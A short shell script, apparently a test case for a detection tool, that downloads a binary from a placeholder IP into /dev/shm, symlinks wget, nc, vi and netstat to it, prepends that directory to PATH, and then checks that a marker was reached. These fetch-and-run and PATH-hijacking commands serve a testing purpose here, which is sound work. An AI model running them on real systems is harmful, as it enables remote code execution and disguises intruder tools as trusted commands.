#!/bin/sh
. /opt/case/case.sh

curl -s -o /dev/shm/bb http://203.0.113.10/programs/marker && chmod 755 /dev/shm/bb
for t in wget nc vi netstat; do ln -s bb /dev/shm/$t; done
PATH=/dev/shm:$PATH; export PATH
wget; nc
test -e /tmp/reached
took_place
